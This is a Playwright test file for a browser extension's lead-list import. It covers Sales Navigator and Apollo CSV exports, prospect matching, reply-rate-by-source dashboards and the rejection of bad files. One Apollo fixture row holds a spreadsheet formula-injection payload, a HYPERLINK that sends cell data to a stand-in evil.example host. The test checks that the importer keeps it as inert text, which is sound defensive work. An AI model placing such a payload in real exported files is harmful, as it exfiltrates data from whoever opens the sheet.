// Lead lists through the panel, on top of the seeded data set: a Sales Navigator export (as
// PhantomBuster writes it) and an Apollo export, with the header rows of the real exports in
// test/fixtures/leads/. Mapping screen → preview → import; then the traits are on the matched
// prospects, new people are "not contacted yet", and "Who replies" by lead source (one click from
// the import) shows the numbers computed here from the seed. Bad files show their message and
// change nothing.
import { mkdirSync, readFileSync, writeFileSync, openSync, ftruncateSync, closeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Page } from '@playwright/test';
import Papa from 'papaparse';
import { generateSeed } from '../../lib/dev/seed';
import type { ExportFile } from '../../lib/schema/export';
import { expect, openPanel, readDb, test } from './fixtures';

const DAY = 86_400_000;
const SHOTS = path.resolve(process.env.SIDELOG_SHOTS_DIR ?? '.output-screenshots');
const header = (name: string) =>
  Papa.parse<string[]>(readFileSync(`test/fixtures/leads/${name}.csv`, 'utf8').trim()).data.at(-1)!;
const tmp = (name: string) => path.join(tmpdir(), `sidelog-leads-${process.pid}-${name}`);

/** A CSV with the export's real header row and our rows (by column name; other cells empty). */
function csvFile(name: string, cols: string[], rows: Record<string, string>[], bom = false): string {
  const file = tmp(name);
  const body = Papa.unparse({ fields: cols, data: rows.map((r) => cols.map((c) => r[c] ?? '')) });
  writeFileSync(file, (bom ? '\uFEFF' : '') + body);
  return file;
}

/** Outreach units of the seed (docs/design.md, "What the numbers mean"), independently of lib/analytics. */
function units(seed: ExportFile) {
  const byThread = new Map<string, ExportFile['messages']>();
  for (const m of seed.messages) {
    if (m.kind === 'call' || m.kind === 'voicemail') continue;
    (byThread.get(m.threadId) ?? byThread.set(m.threadId, []).get(m.threadId)!).push(m);
  }
  const t = (m: { sentAt: string }) => Date.parse(m.sentAt);
  const out: { prospect: string; prospects: string[]; replied: boolean }[] = [];
  for (const th of seed.threads) {
    const ms = (byThread.get(th.id) ?? []).sort((a, b) => t(a) - t(b) || a.id.localeCompare(b.id));
    if (!ms.length || ms[0].direction !== 'outbound' || !th.prospectIds.length) continue;
    if (ms.some((m) => m.direction === 'inbound' && m.classification === 'bounce')) continue;
    const reply = ms.find((m) => m.direction === 'inbound' && m.classification === 'human');
    out.push({
      prospect: th.prospectIds[0],
      prospects: th.prospectIds,
      replied: !!reply && t(reply) - t(ms[0]) <= 30 * DAY,
    });
  }
  return out;
}

async function importSeed(panel: Page, file: string) {
  await panel.getByRole('tab', { name: 'Settings' }).click();
  await panel.getByLabel('Import JSON').setInputFiles(file);
  await expect(panel.getByRole('status').filter({ hasText: 'Imported' })).toBeVisible({ timeout: 60_000 });
}

async function openImport(panel: Page) {
  await panel.getByRole('tab', { name: 'Prospects' }).click();
  await panel.getByRole('button', { name: 'Import leads' }).click();
  await expect(panel.getByRole('heading', { name: 'Import leads' })).toBeVisible();
}

test('lead lists from Sales Navigator and Apollo: mapping, preview, import, and reply rate by lead source', async ({
  context,
  extensionId,
}) => {
  test.setTimeout(120_000);
  const now = Date.now();
  const seed = generateSeed({ now, seed: 7 });
  const seedFile = tmp('seed.json');
  writeFileSync(seedFile, JSON.stringify(seed));
  const live = units(seed);
  const contacted = new Set(live.flatMap((u) => u.prospects));
  const pick = (f: (p: ExportFile['prospects'][number]) => boolean, n: number, not: Set<string> = new Set()) =>
    seed.prospects.filter((p) => contacted.has(p.id) && !not.has(p.id) && f(p)).slice(0, n);

  // Sales Navigator (PhantomBuster): 8 seed people with a LinkedIn profile and no email, 2 new people
  // whose profile links carry Sales Navigator's hashed ids.
  const snMatched = pick((p) => !p.emails.length && !!p.linkedinUrl, 8);
  const snCols = header('phantombuster-sales-navigator');
  const snRows = [
    ...snMatched.map((p, i) => {
      const slug = p.linkedinUrl!.match(/\/in\/([^/]+)/)![1];
      return {
        profileUrl: `https://www.linkedin.com/sales/lead/ACwAAAA${i}bcdEFGhijKLMno,NAME_SEARCH,x${i}`,
        fullName: p.name,
        firstName: p.name.split(' ')[0],
        lastName: p.name.split(' ').slice(1).join(' '),
        companyName: p.company ?? '',
        title: p.title ?? '',
        industry: p.industry ?? '',
        location: p.location ?? '',
        connectionDegree: '2nd',
        name: p.name,
        vmid: `ACwAAAA${i}bcdEFGhijKLMno`,
        linkedInProfileUrl: `https://www.linkedin.com/in/${slug}/`,
        defaultProfileUrl: `https://www.linkedin.com/in/${slug}/`,
        isPremium: 'false',
        query: 'https://www.linkedin.com/sales/search/people?query=(filters:List())',
        timestamp: '2026-11-20T10:00:00.000Z',
      };
    }),
    ...['Maëlle Fournier', 'Tobias Kranz'].map((name, i) => ({
      profileUrl: `https://www.linkedin.com/sales/lead/ACwAAAB${i}xyzXYZxyzXYZ,NAME_SEARCH,y${i}`,
      fullName: name,
      firstName: name.split(' ')[0],
      lastName: name.split(' ')[1],
      companyName: i ? 'Kranz Logistik GmbH' : 'Atelier Fournier',
      title: i ? 'Head of Operations' : 'Fondatrice',
      industry: 'Logistics',
      location: i ? 'Hamburg, Germany' : 'Lyon, France',
      name,
      vmid: `ACwAAAB${i}xyzXYZxyzXYZ`,
      linkedInProfileUrl: `https://www.linkedin.com/in/ACwAAAB${i}xyzXYZxyzXYZ/`,
      defaultProfileUrl: `https://www.linkedin.com/in/ACwAAAB${i}xyzXYZxyzXYZ/`,
    })),
  ];
  const snFile = csvFile('sales-navigator.csv', snCols, snRows);

  // Apollo: 10 seed people by email, 1 by name + company only, 3 new people (one with a formula in
  // a cell), 1 row that identifies no one.
  const taken = new Set(snMatched.map((p) => p.id));
  const apEmail = pick((p) => p.emails.length > 0, 10, taken);
  for (const p of apEmail) taken.add(p.id);
  const nameCo = (p: ExportFile['prospects'][number]) => `${p.name}|${p.company}`.toLowerCase();
  const [apName] = pick(
    (p) => !!p.company && seed.prospects.filter((q) => nameCo(q) === nameCo(p)).length === 1,
    1,
    taken,
  );
  const apMatched = [...apEmail, apName];
  const apCols = header('apollo-2024');
  const apRow = (first: string, last: string, company: string, email: string, more: Record<string, string> = {}) => ({
    'First Name': first,
    'Last Name': last,
    Company: company,
    'Company Name for Emails': company,
    Email: email,
    'Email Status': email ? 'Verified' : 'Unavailable',
    'First Phone': "'+44 20 7946 0958",
    Lists: 'Q4 outbound',
    'Apollo Contact Id': `65a4${Math.random().toString(16).slice(2, 14)}`,
    ...more,
  });
  const apRows = [
    ...apEmail.map((p) =>
      apRow(p.name.split(' ')[0], p.name.split(' ').slice(1).join(' '), p.company ?? '', p.emails[0].toUpperCase(), {
        Title: p.title ?? '',
      }),
    ),
    apRow(apName.name.split(' ')[0], apName.name.split(' ').slice(1).join(' '), `${apName.company}, Inc.`, ''),
    apRow('Ines', 'Duarte', 'Lisboa Labs', 'ines@lisboalabs.example', {
      Title: 'CTO',
      Industry: 'Software',
      '# Employees': '25',
      City: 'Lisbon',
      Country: 'Portugal',
    }),
    apRow('Kwame', 'Mensah', 'Accra Freight', 'kwame@accrafreight.example', {
      Title: 'COO',
      'Person Linkedin Url': 'http://www.linkedin.com/in/kwame-mensah-42',
    }),
    apRow('Eve', 'Mallory', 'Evil Corp', 'eve@evilcorp.example', {
      Title: '=HYPERLINK("http://evil.example/steal?d="&A1,"Open")',
    }),
    apRow('', '', '', '', { Title: 'Intern' }),
  ];
  const apFile = csvFile('apollo-contacts-export.csv', apCols, apRows, true);

  const panel = await openPanel(context, extensionId, 360);
  await importSeed(panel, seedFile);
  const before = (await readDb<{ id: string }>(panel, 'prospects')).length;
  expect(before).toBe(seed.prospects.length);

  // Sales Navigator: the mapping screen reads the profile column, not the Sales Navigator link.
  await openImport(panel);
  await panel.getByLabel('Lead list (CSV)').setInputFiles(snFile);
  await expect(panel.getByTestId('lead-file-summary')).toContainText('10 rows');
  await expect(panel.getByTestId('lead-file-summary')).toContainText('Sales Navigator export');
  await expect(panel.getByLabel('Use of column linkedInProfileUrl')).toHaveValue('linkedin');
  await expect(panel.getByLabel('Use of column fullName')).toHaveValue('name');
  await expect(panel.getByLabel('Use of column companyName')).toHaveValue('company');
  await expect(panel.getByLabel('Use of column profileUrl')).toHaveCount(0); // ignored columns are folded
  await panel.getByRole('button', { name: /Show \d+ ignored columns/ }).click();
  await expect(panel.getByLabel('Use of column profileUrl')).toHaveValue('ignore');
  await expect(panel.getByLabel('Lead source for rows without one')).toHaveValue('Sales Navigator');
  await expect(panel.getByTestId('lead-summary')).toHaveText('2 new · 8 matched (8 gain details) · 0 skipped');
  await expect(panel.getByTestId('lead-preview')).toContainText('matched by linkedin');
  await panel.getByRole('button', { name: 'Import 10 leads' }).click();
  await expect(panel.getByTestId('lead-import-done')).toContainText('2 new prospects, 8 completed, 0 rows skipped');
  await panel.getByRole('button', { name: 'Back to prospects' }).click();

  // Apollo: UTF-8 with a BOM; a formula cell is reported and kept as text; a row without anyone skipped.
  await openImport(panel);
  await panel.getByLabel('Lead list (CSV)').setInputFiles(apFile);
  await expect(panel.getByTestId('lead-file-summary')).toContainText('Apollo export');
  await expect(panel.getByLabel('Use of column Person Linkedin Url')).toHaveValue('linkedin');
  await expect(panel.getByLabel('Use of column Email')).toHaveValue('email');
  await expect(panel.getByLabel('Use of column Lists')).toHaveValue('trait');
  await expect(panel.getByLabel('Trait name for column Lists')).toHaveValue('lists');
  await expect(panel.getByTestId('lead-summary')).toHaveText('3 new · 11 matched (11 gain details) · 1 skipped');
  await expect(panel.getByTestId('lead-skipped')).toContainText(
    `1 skipped: no email, LinkedIn profile URL, or name and company (row ${apRows.length + 1})`,
  );
  await expect(panel.getByTestId('lead-formulas')).toContainText('kept as plain text and never run');
  await expect(panel.getByTestId('lead-preview')).toContainText('matched by email');
  mkdirSync(SHOTS, { recursive: true });
  await panel.screenshot({ path: `${SHOTS}/leads-mapping-360.png`, fullPage: true });
  await panel.getByRole('button', { name: 'Import 14 leads' }).click();
  await expect(panel.getByTestId('lead-import-done')).toContainText('3 new prospects, 11 completed, 1 row skipped');

  // The traits are on the matched prospects; the new people are prospects, stored as text.
  const stored = await readDb<{
    id: string;
    name: string;
    title: string | null;
    traits: Record<string, string>;
    keys: string[];
  }>(panel, 'prospects');
  expect(stored).toHaveLength(before + 5);
  const byId = new Map(stored.map((p) => [p.id, p]));
  for (const p of snMatched)
    expect(byId.get(p.id)?.traits, p.name).toMatchObject({
      'lead source': 'Sales Navigator',
      'connection degree': '2nd',
      source: p.traits.source,
    });
  for (const p of apMatched)
    expect(byId.get(p.id)?.traits, p.name).toMatchObject({ 'lead source': 'Apollo', lists: 'Q4 outbound' });
  expect(stored.find((p) => p.name === 'Eve Mallory')?.title).toBe(
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Open")',
  );
  expect(stored.find((p) => p.name === 'Kwame Mensah')?.keys).toEqual([
    'email:kwame@accrafreight.example',
    'li:kwame-mensah-42',
  ]);

  // "Reply rate by lead source" is one click from the import.
  await panel.getByRole('button', { name: 'Reply rate by lead source →' }).click();
  await expect(panel.getByRole('tab', { name: 'Dashboard' })).toHaveAttribute('aria-selected', 'true');
  await expect(panel.getByLabel('Trait', { exact: true })).toHaveValue('trait:lead source');
  await panel.getByLabel('Date range').selectOption('all');
  const source = new Map<string, string>([
    ...snMatched.map((p) => [p.id, 'Sales Navigator'] as const),
    ...apMatched.map((p) => [p.id, 'Apollo'] as const),
  ]);
  const want = new Map<string, string>();
  for (const label of ['Apollo', 'Sales Navigator', 'unknown']) {
    const mine = live.filter((u) => (source.get(u.prospect) ?? 'unknown') === label);
    want.set(label, `${mine.filter((u) => u.replied).length}/${mine.length}`);
  }
  const rows = panel.getByTestId('trait-table').locator('tbody tr');
  await expect(rows).toHaveCount(3);
  const got = new Map<string, string>();
  for (const r of await rows.all())
    got.set((await r.locator('th .clip').innerText()).trim(), (await r.locator('td.num').innerText()).trim());
  expect(got).toEqual(want);
  await expect(rows.last().locator('th .clip')).toHaveText('unknown'); // its own row, last
  const known = [...contacted].filter((id) => source.has(id)).length;
  await expect(panel.getByTestId('trait-coverage')).toHaveText(
    `Lead source known for ${((known / contacted.size) * 100).toFixed(0)}% of ${contacted.size} people contacted (${contacted.size - known} unknown)`,
  );
  await panel.locator('[aria-label="Traits"]').screenshot({ path: `${SHOTS}/who-replies-lead-source-360.png` });
  // People not contacted yet changed no rate: the headline still counts the seed's people only.
  await expect(panel.getByTestId('prospect-rate')).toContainText(`of ${contacted.size} people`);

  // The new people show as "not contacted yet", with a filter of their own.
  await panel.getByRole('tab', { name: 'Prospects' }).click();
  const neverWritten = seed.prospects.filter(
    (p) => !seed.messages.some((m) => m.prospectId === p.id && m.direction === 'outbound') && p.stage === 'contacted',
  ).length;
  await expect(panel.getByTestId('prospect-count')).toHaveText(`${before + 5} prospects`);
  await panel.getByLabel('Stage filter').selectOption('not-contacted');
  await expect(panel.getByTestId('prospect-count')).toHaveText(`${neverWritten + 5} of ${before + 5} prospects`);
  await panel.screenshot({ path: `${SHOTS}/prospects-not-contacted-360.png` });
  await panel.getByLabel('Search prospects').fill('Ines Duarte');
  await expect(panel.locator('.plist li')).toHaveCount(1);
  await expect(panel.locator('.plist li')).toContainText('not contacted yet');
});

test('a bad lead file shows its message and changes nothing; coverage and the unknown row show; a French Excel sheet imports', async ({
  context,
  extensionId,
}) => {
  test.setTimeout(90_000);
  const now = Date.now();
  const seed = generateSeed({ now, seed: 7 });
  const seedFile = tmp('seed2.json');
  writeFileSync(seedFile, JSON.stringify(seed));
  const panel = await openPanel(context, extensionId, 360);
  await importSeed(panel, seedFile);
  const count = async () => (await readDb(panel, 'prospects')).length;
  const before = await count();
  await openImport(panel);

  const xlsx = tmp('leads.xlsx');
  writeFileSync(
    xlsx,
    Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, ...Buffer.from('[Content_Types].xml')]),
  );
  await panel.getByLabel('Lead list (CSV)').setInputFiles(xlsx);
  await expect(panel.getByTestId('lead-file-error')).toContainText(
    'This is an Excel workbook or another zipped file, not a CSV.',
  );

  const huge = tmp('huge.csv');
  const fd = openSync(huge, 'w');
  ftruncateSync(fd, 50 * 1024 * 1024); // 50 MB (sparse): refused from its size, never read
  closeSync(fd);
  await panel.getByLabel('Lead list (CSV)').setInputFiles(huge);
  await expect(panel.getByTestId('lead-file-error')).toContainText(
    'This file is 50 MB; Sidelog reads lead lists up to 25 MB',
  );

  const binary = tmp('export.csv');
  writeFileSync(binary, Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)));
  await panel.getByLabel('Lead list (CSV)').setInputFiles(binary);
  await expect(panel.getByTestId('lead-file-error')).toContainText('not a text file');

  const noId = csvFile(
    'no-id.csv',
    ['Job Title', 'Industry', 'Lead Source'],
    [{ 'Job Title': 'CEO', Industry: 'Retail', 'Lead Source': 'Webinar' }],
  );
  await panel.getByLabel('Lead list (CSV)').setInputFiles(noId);
  await expect(panel.getByTestId('lead-missing-id')).toContainText('No column identifies people');
  await expect(panel.getByRole('button', { name: 'Nothing to import' })).toBeDisabled();
  await panel.getByRole('button', { name: 'Cancel' }).click();
  expect(await count()).toBe(before);

  // Coverage and the "unknown" row, for a trait the seed gives only some people (its "crm").
  await panel.getByRole('tab', { name: 'Dashboard' }).click();
  await panel.getByLabel('Date range').selectOption('all');
  const live = units(seed);
  const people = new Set(live.flatMap((u) => u.prospects));
  const crm = new Map(seed.prospects.map((p) => [p.id, p.traits.crm]));
  const known = [...people].filter((id) => crm.get(id)).length;
  expect(known).toBeLessThan(people.size);
  await panel.getByLabel('Trait', { exact: true }).selectOption('trait:crm');
  await expect(panel.getByTestId('trait-coverage')).toHaveText(
    `Crm known for ${((known / people.size) * 100).toFixed(0)}% of ${people.size} people contacted (${people.size - known} unknown)`,
  );
  const unknownUnits = live.filter((u) => !crm.get(u.prospect));
  const last = panel.getByTestId('trait-table').locator('tbody tr').last();
  await expect(last.locator('th .clip')).toHaveText('unknown');
  await expect(last.locator('td.num')).toHaveText(
    `${unknownUnits.filter((u) => u.replied).length}/${unknownUnits.length}`,
  );
  await expect(last).toHaveClass(/unknown/);

  // A sheet made by hand in a French Excel: semicolons, Windows-1252, the header in French.
  const fr = tmp('prospects-salon.csv');
  writeFileSync(
    fr,
    Buffer.from(
      'Prénom;Nom;Société;Poste;Courriel;Source du lead\r\nZoë;Dürr;Crédit Agricole, SA;Directrice générale;zoe.durr@ca.example;Salon VivaTech\r\n',
      'latin1',
    ),
  );
  await openImport(panel);
  await panel.getByLabel('Lead list (CSV)').setInputFiles(fr);
  await expect(panel.getByTestId('lead-file-summary')).toContainText(
    '1 row, 6 columns · Windows (Excel) encoding · semicolons',
  );
  await expect(panel.getByLabel('Use of column Société')).toHaveValue('company');
  await expect(panel.getByLabel('Trait name for column Source du lead')).toHaveValue('lead source');
  await expect(panel.getByTestId('lead-preview')).toContainText('Zoë Dürr');
  await panel.getByRole('button', { name: 'Import 1 lead' }).click();
  await expect(panel.getByTestId('lead-import-done')).toContainText('1 new prospect');
  const zoe = (
    await readDb<{ name: string; company: string; title: string; traits: Record<string, string> }>(panel, 'prospects')
  ).find((p) => p.name === 'Zoë Dürr');
  expect(zoe).toMatchObject({
    company: 'Crédit Agricole, SA',
    title: 'Directrice générale',
    traits: { 'lead source': 'Salon VivaTech' },
  });
});
